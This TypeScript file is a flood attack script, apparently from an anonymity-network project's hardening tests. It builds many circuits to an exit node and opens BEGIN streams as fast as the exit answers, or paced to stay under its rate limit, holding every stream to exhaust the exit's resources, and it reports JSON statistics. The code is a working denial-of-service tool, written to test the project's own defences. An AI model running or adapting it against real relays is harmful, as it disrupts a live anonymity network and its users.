// Attack script: BEGIN floods against an exit (hardening issue, class 9). From its own stock libp2p host
// the attacker fetches the exit's descriptor, builds one-hop circuits to it with AnonNet's own circuit
// code (as a real attacker would), and on each circuit opens streams as fast as it may to `targets`
// (a slow destination that accepts and never answers, and a live one), holding every stream it gets.
// All circuits flood at once. A blunt attacker sends as fast as answers come back (`paceMs` 0); a
// patient one paces each of its `concurrency` workers to stay under the exit's BEGIN rate.
// Reports one JSON line per circuit when that circuit ends (closed by the exit, or its BEGINs spent):
//   {phase: 'circuit', index, attempted, connected, refused: {<END reason>: n}, closedByExit, ms}
// and at the end {phase: 'done', circuits, attempted, connected, refused, closedByExit, ms}.

import { multiaddr } from '@multiformats/multiaddr';
import type { CircuitStream } from '../../../src/circuit/circuit-streams.ts';
import type { PathHop } from '../../../src/circuit/client-circuit.ts';
import { ClientCircuit } from '../../../src/circuit/client-circuit.ts';
import { fetchPeerDescriptor } from '../../../src/directory/descriptor-protocol.ts';
import { selectOnionKey } from '../../../src/directory/verify-descriptor.ts';
import { StreamEndedError } from '../../../src/stream/anon-stream.ts';
import { clientStreams } from '../../../src/stream/stream-table.ts';
import { decodeDescriptor } from '../../../src/wire/descriptor.ts';
import { attackArgs, createAttackerHost, report } from './attacker-host.ts';

interface Args {
  /** The exit's multiaddr, with /p2p/<id>. */
  readonly address: string;
  readonly targets: ReadonlyArray<{ readonly host: string; readonly port: number }>;
  /** Circuits to build; they flood at the same time. */
  readonly circuits: number;
  /** BEGINs to send on each circuit at most. */
  readonly begins: number;
  /** BEGINs waiting for their answer at once, per circuit. */
  readonly concurrency: number;
  /** Pause of each worker between its BEGINs (default 0: as fast as answers come). */
  readonly paceMs?: number;
  /** How long to hold what was opened before reporting 'done' (default 0). */
  readonly holdMs?: number;
}

const args = attackArgs<Args>();
const started = Date.now();
const host = await createAttackerHost();
const target = multiaddr(args.address);
const peerId = target.getComponents().findLast((c) => c.name === 'p2p')?.value;
if (peerId === undefined) throw new Error('the address needs /p2p/<id>');
await host.dial(target, { signal: AbortSignal.timeout(10_000) });
const decoded = decodeDescriptor(await fetchPeerDescriptor(host, peerId, AbortSignal.timeout(10_000)));
if (decoded.kind !== 'ok') throw new Error(`bad descriptor: ${decoded.kind}`);
const d = decoded.value.descriptor;
const onionKey = selectOnionKey(d.onionKeys, Date.now());
if (onionKey === undefined) throw new Error('no current onion key');
const hop: PathHop = { peerId, identityKey: d.identityKey, onionKey, addresses: [target] };

const totals = { attempted: 0, connected: 0, closedByExit: 0, refused: {} as Record<string, number> };
const held: CircuitStream[] = [];
const circuits: ClientCircuit[] = [];

async function flood(index: number): Promise<void> {
  const t0 = Date.now();
  const circuit = await ClientCircuit.build(host, [hop], AbortSignal.timeout(15_000), {
    streams: clientStreams,
  });
  circuits.push(circuit);
  const stats = { attempted: 0, connected: 0, refused: {} as Record<string, number> };
  let next = 0;
  const worker = async () => {
    while (circuit.state === 'open' && stats.attempted < args.begins) {
      const t = args.targets[next++ % args.targets.length]!;
      stats.attempted++;
      try {
        const s = await circuit.openStream(t.host, t.port, AbortSignal.timeout(20_000));
        s.on('error', () => {});
        held.push(s);
        stats.connected++;
      } catch (err) {
        const reason = err instanceof StreamEndedError ? String(err.reason) : (err as Error).name;
        stats.refused[reason] = (stats.refused[reason] ?? 0) + 1;
      }
      if (args.paceMs) await new Promise((r) => setTimeout(r, args.paceMs));
    }
  };
  await Promise.all(Array.from({ length: args.concurrency }, worker));
  const closedByExit = circuit.state === 'closed';
  totals.attempted += stats.attempted;
  totals.connected += stats.connected;
  if (closedByExit) totals.closedByExit++;
  for (const [k, v] of Object.entries(stats.refused)) totals.refused[k] = (totals.refused[k] ?? 0) + v;
  report({
    phase: 'circuit',
    index,
    ...stats,
    closedByExit,
    reason: circuit.closeReason,
    ms: Date.now() - t0,
  });
}

await Promise.all(Array.from({ length: args.circuits }, (_, i) => flood(i)));
await new Promise((r) => setTimeout(r, args.holdMs ?? 0));
report({
  phase: 'done',
  circuits: args.circuits,
  ...totals,
  stillOpen: circuits.filter((c) => c.state === 'open').length,
  ms: Date.now() - started,
});
for (const c of circuits) c.close();
await host.stop();
process.exit(0);
